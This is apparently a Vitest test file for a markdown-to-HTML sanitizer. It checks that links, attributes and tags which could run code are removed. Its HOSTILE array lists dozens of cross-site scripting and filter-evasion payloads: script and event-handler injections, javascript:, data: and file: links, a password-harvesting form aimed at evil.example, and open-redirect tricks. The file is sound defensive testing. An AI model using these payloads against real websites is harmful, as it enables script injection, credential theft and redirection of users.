import { describe, expect, test } from 'vitest'
import { toRichName, toRichText } from './rich-text.ts'

const FILLINGS = { operator: 'Thrum', contact: 'hello@thrum.example' }
const rich = (markdown: string) => toRichText(markdown, FILLINGS)

/** Everything that may ever leave: known elements without attributes, and links to three kinds of places. */
const TAG =
  '</?(?:h[2-6]|p|ul|ol|li|strong|em|blockquote|code|pre|table|thead|tbody|tr|th|td)>|<(?:br|hr) />|</a>'
const LINK =
  '<a href="https://[^"<>\\s]+" rel="noopener noreferrer" target="_blank">|<a href="(?:mailto:[^"<>\\s]+|/(?![/\\\\])[^"<>\\s]*)">'
const SAFE = new RegExp(`^(?:[^<>]|${TAG}|${LINK})*$`)

const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/x.png)',
  '![x](x "onerror=alert(1)")',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p class="dialog" id="root" data-x="1">x</p>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  '<video src=x onerror=alert(1)><audio src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](blob:https://thrum.example/1)',
  '[x](file:///etc/passwd)',
  '[x](http://evil.example)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](/..//evil.example)',
  '[x](/%09/evil.example)',
  '<a href="/\t/evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '[x](https://thrum.example@evil.example)',
  '[x](https:evil.example)',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://ok.example" onclick=alert(1)>',
  '<a href="https://ok.example" onclick="alert(1)" style="x" target="_top" rel="opener">x</a>',
  "<a href='https://ok.example/\"><script>alert(1)</script>'>x</a>",
  '`<script>`</code><script>alert(1)</script>',
  '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><script>alert(1)</script>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><script>alert(1)</script></select>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)><html manifest=x>',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '<td background="javascript:alert(1)" colspan=99>x</td>',
  '\u0000<script\u0000>alert(1)</script\u0000>',
  `<a href="https://ok.example">${'<b>'.repeat(2_000)}`,
  '<dialog open><h1>Sign in again</h1></dialog>',
  '<p>{{contact}}<script>{{operator}}</script></p>',
]

describe('what an operator writes', () => {
  test.each(HOSTILE)('NO-04 hostile text %# loses all that could act', (markdown) => {
    const html = rich(markdown)
    expect(html).toMatch(SAFE)
  })

  test('NO-04 a link that leads nowhere good is its own text', () => {
    for (const address of ['http://evil.example', '//evil.example', 'javascript:1', 'x.html', '#top', '']) {
      expect(rich(`Read [this](${address}).`)).toBe('<p>Read this.</p>')
    }
    expect(rich('<a href="https:evil.example">x</a>')).not.toContain('href')
  })

  test('NO-04 names and mailboxes that are filled in are text, whatever they hold', () => {
    const hostile = { operator: '<img src=x onerror=alert(1)>$&', contact: '"><script>alert(1)</script>@x' }
    const html = toRichText('By {{operator}}, {{contact}}', hostile)
    expect(html).toMatch(SAFE)
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;$&amp;')
    expect(toRichName('By {{operator}}', hostile)).toBe('By <img src=x onerror=alert(1)>$&')
  })

  test('NO-04 a look-alike host shows what it is', () => {
    expect(rich('[x](https://p\u0430ypal.example/)')).toContain('href="https://xn--pypal-4ve.example/"')
  })

  test('NOT-03 keeps headings, lists, emphasis, tables, quotes and links of three kinds', () => {
    const html = rich(
      [
        '# One',
        '## Two',
        '- a\n- **b** and *c*',
        '1. d',
        '> e',
        '| f | g |\n| - | - |\n| 1 | 2 |',
        '---',
        '`h`  \ni',
        '[out](https://thrum.example/a?b=1&c=2), [in](/pages/notice/detail?id=2&h=1), {{contact}}',
      ].join('\n\n'),
    )
    expect(html.replaceAll('\n', '')).toBe(
      '<h2>One</h2><h2>Two</h2><ul><li>a</li><li><strong>b</strong> and <em>c</em></li></ul><ol><li>d</li></ol>' +
        '<blockquote><p>e</p></blockquote><table><thead><tr><th>f</th><th>g</th></tr></thead><tbody><tr><td>1</td>' +
        '<td>2</td></tr></tbody></table><hr /><p><code>h</code><br />i</p>' +
        '<p><a href="https://thrum.example/a?b=1&amp;c=2" rel="noopener noreferrer" target="_blank">out</a>, ' +
        '<a href="/pages/notice/detail?id=2&amp;h=1">in</a>, ' +
        '<a href="mailto:hello@thrum.example">hello@thrum.example</a></p>',
    )
  })
})
